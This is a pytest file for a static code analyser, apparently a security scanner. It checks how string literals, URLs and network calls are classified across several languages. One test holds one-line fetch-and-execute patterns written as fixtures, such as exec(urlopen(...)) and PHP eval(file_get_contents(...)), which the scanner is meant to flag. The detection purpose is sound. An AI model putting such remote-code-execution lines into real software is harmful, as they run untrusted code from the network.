"""What the reader of programs says of their string literals."""

from __future__ import annotations

import pytest

from rempart.meaning.findings import INSTRUCTIONS, Act, Sign, Spot, Value
from rempart.meaning.readers.code import read_code
from rempart.model.address import RUN_TIME


def values(text: str, key: str) -> set[tuple[str, str, Act | None]]:
    return {
        (item.text, item.spot.key, item.spot.act) for item in read_code(text, Spot(key=key)) if isinstance(item, Value)
    }


@pytest.mark.parametrize(
    ("key", "text", "expected"),
    [
        ("a.py", 'requests.post("https://a.fr")', ("https://a.fr", "", Act.SENDS)),
        ("a.py", 'c = client("s3", endpoint_url="https://a.fr")', ("https://a.fr", "endpoint_url", Act.CONNECTS)),
        ("a.py", 'PASSWORD = "x"', ("x", "PASSWORD", None)),
        ("a.py", 'H = "a.fr"\nrequests.post(f"https://{H}/x")', ("https://a.fr/x", "", Act.SENDS)),
        ("a.py", 'requests.post("https://" + host)', (f"https://{RUN_TIME}", "", Act.SENDS)),
        ("a.py", 'x = "https://" "a.fr"', ("https://a.fr", "x", None)),
        ("a.js", "fetch('https://a.fr')", ("https://a.fr", "", Act.FETCHES)),
        ("a.js", "fetch('https://a.fr', {method: 'POST'})", ("https://a.fr", "", Act.SENDS)),
        ("a.go", 'net.Dial("tcp", "a.fr:1")', ("a.fr:1", "", Act.CONNECTS)),
    ],
)
def test_a_literal_stands_under_its_name_with_the_act_of_its_call(
    key: str, text: str, expected: tuple[str, str, Act | None]
) -> None:
    assert expected in values(text, key)


@pytest.mark.parametrize(
    ("key", "text"), [("a.py", '# "https://a.fr"'), ("a.js", '// "a.fr"\n/* "b.fr" */'), ("a.lua", '-- "a.fr"')]
)
def test_comments_say_nothing(key: str, text: str) -> None:
    assert values(text, key) == set()


def test_a_call_over_several_lines_is_one_sign() -> None:
    signs = [item.name for item in read_code('boto3.client(\n  "s3",\n)\n', Spot(key="a.py")) if isinstance(item, Sign)]

    assert len(signs) == 1


@pytest.mark.parametrize(
    ("key", "text"),
    [
        ("a.py", "from urllib.request import urlopen\nexec(urlopen('https://a.fr/i').read())"),
        ("a.py", "exec(requests.get('https://a.fr/i').text)"),
        ("a.py", "code = requests.get('https://a.fr/i').text\nexec(code)"),
        ("a.js", "eval(await (await fetch('https://a.fr/i')).text())"),
        ("a.rb", "eval(URI.open('https://a.fr/i').read)"),
        ("a.rb", "eval(Net::HTTP.get(URI('https://a.fr/i')))"),
        ("a.php", "<?php eval(file_get_contents('https://a.fr/i'));"),
    ],
)
def test_what_is_fetched_and_evaluated_is_instructions(key: str, text: str) -> None:
    assert ("https://a.fr/i", INSTRUCTIONS, Act.FETCHES) in values(text, key)


@pytest.mark.parametrize(
    "text",
    [
        "print(requests.get('https://a.fr/i').text)",
        "data = requests.get('https://a.fr/i').json()\nprint(data)",
        "x = eval('1 + 1')\nrequests.get('https://a.fr/i')",
    ],
)
def test_what_is_fetched_and_not_evaluated_is_no_instructions(text: str) -> None:
    assert INSTRUCTIONS not in {key for _, key, _ in values(text, "a.py")}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("external_url 'https://a.fr'", ("https://a.fr", "external_url", None)),
        ("rails['smtp_address'] = 'a.fr'", ("a.fr", "smtp_address", None)),
        ("rails['store']['connection'] = {\n  'endpoint' => 'https://a.fr' }", ("https://a.fr", "endpoint", None)),
        ("x = [{ args: { redirect_uri: 'https://a.fr' } }]", ("https://a.fr", "redirect_uri", None)),
    ],
)
def test_settings_of_ruby_stand_under_their_names(text: str, expected: tuple[str, str, Act | None]) -> None:
    assert expected in values(text, "a.rb")


def test_the_pairs_of_one_hash_share_a_block() -> None:
    text = "x = [{ a: 'one', b: 'two' }, { a: 'three' }]"
    scopes = {item.text: item.spot.scope for item in read_code(text, Spot(key="a.rb")) if isinstance(item, Value)}

    assert scopes["one"] == scopes["two"] != scopes["three"]


def test_a_host_of_a_request_is_connected_to() -> None:
    text = "const r = https.request({ hostname: 'a.fr', method: 'POST' });"

    assert ("a.fr", "host", Act.SENDS) in values(text, "a.js")
